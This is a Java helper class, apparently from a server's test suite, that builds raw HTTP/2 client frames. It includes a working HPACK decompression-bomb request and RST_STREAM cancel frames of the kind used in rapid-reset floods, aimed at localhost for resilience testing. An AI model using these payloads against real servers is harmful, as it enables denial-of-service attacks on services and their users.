package io.github.performancestarter.attack;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Collections;

/**
 * Bytes of frames of HTTP/2, as a client sends them.
 */
public final class FrameBytes {

	public static final int HEADERS = 1;

	public static final int RST_STREAM = 3;

	public static final int SETTINGS = 4;

	public static final int CONTINUATION = 9;

	public static final int END_STREAM = 1;

	public static final int END_HEADERS = 4;

	/** SETTINGS_INITIAL_WINDOW_SIZE. */
	public static final int INITIAL_WINDOW_SIZE = 4;

	private static final byte CANCEL = 8;

	private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

	/**
	 * The dynamic table of HPACK has so many bytes, 32 of which an entry costs itself.
	 */
	private static final int TABLE = 4096 - 32;

	/** The first index of the dynamic table, as an indexed field. */
	private static final int NEWEST = 0x80 | 62;

	private FrameBytes() {
	}

	/**
	 * Makes the beginning of a connection.
	 * @param settings identifiers, each with its value
	 * @return the preface and a frame with these settings
	 */
	public static byte[] preface(int... settings) {
		ByteBuffer payload = ByteBuffer.allocate(settings.length / 2 * 6);
		for (int i = 0; i < settings.length; i += 2) {
			payload.putShort((short) settings[i]).putInt(settings[i + 1]);
		}
		return join(PREFACE.getBytes(StandardCharsets.US_ASCII), frame(SETTINGS, 0, 0, payload.array()));
	}

	public static byte[] frame(int type, int flags, int stream, byte... payload) {
		ByteBuffer frame = ByteBuffer.allocate(9 + payload.length);
		frame.put((byte) (payload.length >> 16)).putShort((short) payload.length);
		frame.put((byte) type).put((byte) flags).putInt(stream).put(payload);
		return frame.array();
	}

	/** A whole request without a body. */
	public static byte[] get(int stream, String path) {
		return frame(HEADERS, END_STREAM | END_HEADERS, stream, head("GET", path));
	}

	/** A request whose head goes on. */
	static byte[] begin(int stream, String path) {
		return frame(HEADERS, END_STREAM, stream, head("GET", path));
	}

	/** The end of a stream for no reason, as a client cancels it. */
	static byte[] reset(int stream) {
		return frame(RST_STREAM, 0, stream, (byte) 0, (byte) 0, (byte) 0, CANCEL);
	}

	/**
	 * Makes a request whose head is small, and very large once it is unpacked: one field
	 * that fills the dynamic table, and then only its index.
	 * @param stream the stream
	 * @param times how often the field is repeated
	 * @return the frame, of at most 16,384 bytes for 12,000 times
	 */
	public static byte[] bomb(int stream, int times) {
		ByteArrayOutputStream block = new ByteArrayOutputStream();
		block.writeBytes(head("GET", "/"));
		block.write(0x40);
		text(block, "a");
		text(block, "b".repeat(TABLE - 1));
		for (int i = 0; i < times; i++) {
			block.write(NEWEST);
		}
		return frame(HEADERS, END_STREAM | END_HEADERS, stream, block.toByteArray());
	}

	/**
	 * Makes the block of a request's head: all fields as literals that nothing indexes.
	 * @param method the method
	 * @param path the path
	 * @param fields names in lower case, each with its value
	 * @return the block
	 */
	public static byte[] head(String method, String path, String... fields) {
		ByteArrayOutputStream block = new ByteArrayOutputStream();
		literal(block, ":method", method);
		literal(block, ":scheme", "http");
		literal(block, ":authority", "localhost");
		literal(block, ":path", path);
		for (int i = 0; i < fields.length; i += 2) {
			literal(block, fields[i], fields[i + 1]);
		}
		return block.toByteArray();
	}

	private static void literal(ByteArrayOutputStream block, String name, String value) {
		block.write(0);
		text(block, name);
		text(block, value);
	}

	/** RFC 7541 sections 5.1 and 5.2, without Huffman's code. */
	private static void text(ByteArrayOutputStream block, String text) {
		byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
		int rest = bytes.length - 127;
		if (rest < 0) {
			block.write(bytes.length);
		}
		else {
			block.write(127);
			for (; rest >= 128; rest >>= 7) {
				block.write(rest & 127 | 128);
			}
			block.write(rest);
		}
		block.writeBytes(bytes);
	}

	static byte[] repeat(int times, byte[] bytes) {
		return join(Collections.nCopies(times, bytes).toArray(byte[][]::new));
	}

	static byte[] join(byte[]... parts) {
		ByteArrayOutputStream joined = new ByteArrayOutputStream();
		for (byte[] part : parts) {
			joined.writeBytes(part);
		}
		return joined.toByteArray();
	}

}
